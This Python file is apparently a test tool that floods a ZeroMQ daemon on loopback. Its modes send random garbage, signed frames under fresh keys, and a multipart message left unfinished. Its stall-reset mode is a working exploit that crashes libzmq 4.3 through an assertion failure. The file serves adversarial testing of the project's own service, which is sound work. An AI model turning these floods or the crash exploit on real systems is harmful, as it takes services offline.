"""A stranger's flood, as a program of its own: what the adversarial tests and the attack
benchmark aim at a daemon. It speaks ZeroMQ from its own process, with its own keys, and prints
one JSON line: how many messages it sent.

    python -m tools.attack --target tcp://127.0.0.1:7000 --kind garbage --seconds 5
    python -m tools.attack --target ... --kind strangers --connections 50 --rate 10000 --seconds 5
    python -m tools.attack --target ... --target-key HEX ...   (over CURVE, as a node would connect)

Kinds:
- garbage: random bytes of mixed sizes (up to 64 KiB unless `--sizes` says otherwise), one in
  eight as a multipart message, as fast as the connections take them;
- strangers: validly signed HELLO then PING frames, a fresh key per connection, each connection
  re-opened with a new key once it has sent `--frames-per-key`;
- unfinished: over plain TCP, speaking ZMTP 3.0 itself (libzmq sends a multipart message only
  once it is whole), 60 KB parts of one multipart message whose last part never comes, until
  `--bytes` are sent, `--seconds` pass or the target cuts the connection. Plaintext only: a CURVE
  target refuses the NULL handshake.
- stall-reset: over plain TCP as well, against libzmq 4.3's `Assertion failed: !_io_error`: one
  connection floods small messages so that the target reads no faster than its budget; others,
  one after another, each send a few more messages than the target's queue holds (`--frames`)
  and a ZMTP PING command in the same segment, then reset the connection. The engine stops
  reading at the full queue, the reset marks it broken, and once the target reads the queue the
  engine decodes the PING and answers it on the broken connection: libzmq aborts the process.

Only loopback targets are accepted: this is a test tool.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import socket as pysocket
import struct
import sys
import time

import zmq

from protocol import PROTOCOL_VERSION, Encoder, Hello, Identity, Ping
from protocol.curve import curve_public_from_ed25519

_NETWORK_DEFAULT = "test"


def _loopback(target: str) -> str:
    host = target.removeprefix("tcp://").rsplit(":", 1)[0]
    if not (host.startswith("127.") or host in ("localhost", "[::1]")):
        raise SystemExit(f"attack: refusing a non-loopback target {target!r}")
    return target


GARBAGE_SIZES = (16, 200, 2_000, 20_000, 65_536)
_NOISE = os.urandom(max(GARBAGE_SIZES))


def _garbage(rng: random.Random, sizes: tuple[int, ...]) -> list[bytes]:
    size = rng.choice(sizes)
    payload = _NOISE[:size] if size <= len(_NOISE) else bytes(size)
    return [payload, b"tail"] if rng.random() < 0.125 else [payload]


def _stranger_frames(identity: Identity, network: str, count: int) -> list[bytes]:
    encoder = Encoder(identity, network)
    now = time.time_ns() // 1000
    hello = Hello(address="tcp://127.0.0.1:9", capabilities=(), dataset_size=0, protocol_versions=(PROTOCOL_VERSION,))
    frames = [encoder.encode(hello, seq=1, timestamp_us=now, round=0)]
    frames += [encoder.encode(Ping(nonce=i), seq=2 + i, timestamp_us=now, round=0) for i in range(count - 1)]
    return frames


def _read_exactly(connection: pysocket.socket, count: int) -> bytes:
    data = b""
    while len(data) < count:
        chunk = connection.recv(count - len(data))
        if not chunk:
            raise ConnectionResetError("the target closed the connection")
        data += chunk
    return data


def _zmtp_connection(target: str) -> pysocket.socket:
    """A plain TCP connection that has done ZMTP 3.0's NULL handshake as a DEALER."""
    host, port = target.removeprefix("tcp://").rsplit(":", 1)
    connection = pysocket.create_connection((host.strip("[]"), int(port)), timeout=5)
    connection.setsockopt(pysocket.IPPROTO_TCP, pysocket.TCP_NODELAY, 1)
    greeting = b"\xff" + bytes(8) + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\x00") + b"\x00" + bytes(31)
    ready = b"\x05READY" + b"\x0bSocket-Type" + struct.pack(">I", 6) + b"DEALER"
    connection.sendall(greeting + bytes([0x04, len(ready)]) + ready)
    # Messages before the handshake is over (the target's ZAP handler answers first) would be a
    # protocol error: wait for the target's greeting and READY.
    _read_exactly(connection, 64)
    flags, size = _read_exactly(connection, 2)
    _read_exactly(
        connection,
        size if not flags & 0x02 else struct.unpack(">Q", bytes([size]) + _read_exactly(connection, 7))[0],
    )
    return connection


def _reset(connection: pysocket.socket) -> None:
    connection.setsockopt(pysocket.SOL_SOCKET, pysocket.SO_LINGER, struct.pack("ii", 1, 0))
    connection.close()  # SO_LINGER 0: an RST, not a FIN


def unfinished(target: str, max_bytes: int, seconds: float) -> dict:
    """One multipart message, never finished (see the module's docstring)."""
    part = _NOISE[:60_000]
    header = b"\x03" + struct.pack(">Q", len(part))  # MORE | LONG
    sent, parts, reset, started = 0, 0, False, time.perf_counter()
    connection = _zmtp_connection(target)
    try:
        while sent < max_bytes and time.perf_counter() - started < seconds:
            connection.sendall(header + part)
            sent += len(header) + len(part)
            parts += 1
        time.sleep(max(0.0, seconds - (time.perf_counter() - started)))  # hold the parts there
        connection.sendall(header + part)  # still open? (a reset shows here at the latest)
    except OSError:
        reset = True
    finally:
        connection.close()
    return {"sent": parts, "bytes": sent, "reset": reset, "seconds": round(time.perf_counter() - started, 3)}


def stall_reset(target: str, frames: int, seconds: float) -> dict:
    """See the module's docstring; `frames`: messages before the PING on each resetting connection."""
    message = b"\x00\x28" + _NOISE[:40]  # a 40-byte message
    ping = b"\x04\x09\x04PING" + struct.pack(">H", 10) + b"ab"  # command: name, TTL, context
    flooding, resets, started = _zmtp_connection(target), 0, time.perf_counter()
    flooding.setblocking(False)
    try:
        while time.perf_counter() - started < seconds:
            try:
                flooding.send(message * 100)
            except BlockingIOError:
                pass  # the target reads no faster than its budget: its queue and ours are full
            try:
                victim = _zmtp_connection(target)
            except OSError:  # the target is gone
                break
            victim.sendall(message * frames + ping)
            time.sleep(0.001 * (1 + resets % 4))  # the target's engine reads it, its reader not yet
            _reset(victim)
            resets += 1
            time.sleep(0.05)
    finally:
        _reset(flooding)
    return {"sent": resets, "seconds": round(time.perf_counter() - started, 3)}


def run(
    target: str,
    kind: str,
    connections: int,
    rate: float,
    seconds: float,
    frames_per_key: int,
    network: str,
    sizes: tuple[int, ...] = GARBAGE_SIZES,
    target_key: bytes | None = None,
):
    """`target_key`: the target's Ed25519 key, to connect over CURVE as a node would (each
    connection with the transport key of the identity that signs its frames)."""
    context = zmq.Context()
    rng = random.Random(0)

    def connect(identity: Identity) -> zmq.Socket:
        socket = context.socket(zmq.DEALER)
        socket.setsockopt(zmq.LINGER, 0)
        socket.setsockopt(zmq.SNDHWM, 10_000)
        socket.setsockopt(zmq.SNDTIMEO, 1000)  # a connection refused for good must not hang the tool
        if target_key is not None:
            secret, public = identity.curve_keypair()
            socket.setsockopt(zmq.CURVE_SECRETKEY, secret)
            socket.setsockopt(zmq.CURVE_PUBLICKEY, public)
            socket.setsockopt(zmq.CURVE_SERVERKEY, curve_public_from_ed25519(target_key))
        socket.connect(target)
        return socket

    identities = [Identity.generate() for _ in range(connections)]
    sockets = [connect(identity) for identity in identities]
    # Signed frames are made before the clock starts: the flood measures the target, not us.
    plans = [_stranger_frames(i, network, frames_per_key) for i in identities] if kind == "strangers" else []
    positions = [0] * connections
    time.sleep(0.2)  # let the connections come up
    sent, blocked, started = 0, 0, time.perf_counter()
    while (elapsed := time.perf_counter() - started) < seconds:
        if rate and sent > elapsed * rate:
            time.sleep(min(0.001, sent / rate - elapsed))
            continue
        i = (sent + blocked) % connections
        if kind == "strangers" and positions[i] == len(plans[i]):  # a fresh key on a fresh connection
            sockets[i].close(linger=0)
            identity = Identity.generate()
            sockets[i] = connect(identity)
            plans[i], positions[i] = _stranger_frames(identity, network, frames_per_key), 0
        try:
            if kind == "garbage":
                sockets[i].send_multipart(_garbage(rng, sizes))
            else:
                sockets[i].send(plans[i][positions[i]])
                positions[i] += 1
            sent += 1
        except zmq.Again:  # a second passed and its queue is still full: the target refused it
            blocked += 1
    for socket in sockets:
        socket.close(linger=1000)
    context.term()
    return {"sent": sent, "blocked": blocked, "seconds": round(time.perf_counter() - started, 3)}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m tools.attack", description=__doc__.split("\n")[0])
    parser.add_argument("--target", required=True, type=_loopback)
    parser.add_argument("--kind", choices=("garbage", "strangers", "unfinished", "stall-reset"), required=True)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--rate", type=float, default=0.0, help="messages per second in all (0: as fast as possible)")
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--frames-per-key", type=int, help="default: enough that each connection keeps one key")
    parser.add_argument("--frames", type=int, default=6, help="stall-reset: messages before the PING")
    parser.add_argument("--network", default=_NETWORK_DEFAULT)
    parser.add_argument("--sizes", type=int, nargs="+", default=GARBAGE_SIZES, help="garbage message sizes")
    parser.add_argument("--bytes", type=int, default=200 << 20, help="unfinished: bytes of parts to send")
    parser.add_argument(
        "--target-key", type=bytes.fromhex, help="the target's public key (hex): connect over CURVE, as a node would"
    )
    args = parser.parse_args(argv)
    if args.kind == "unfinished":
        print(json.dumps(unfinished(args.target, args.bytes, args.seconds)), flush=True)
        return 0
    if args.kind == "stall-reset":
        print(json.dumps(stall_reset(args.target, args.frames, args.seconds)), flush=True)
        return 0
    if args.frames_per_key is None:
        planned = args.rate * args.seconds if args.rate else 20_000
        args.frames_per_key = int(planned // max(1, args.connections)) + 2
    result = run(
        args.target,
        args.kind,
        args.connections,
        args.rate,
        args.seconds,
        args.frames_per_key,
        args.network,
        tuple(args.sizes),
        args.target_key,
    )
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
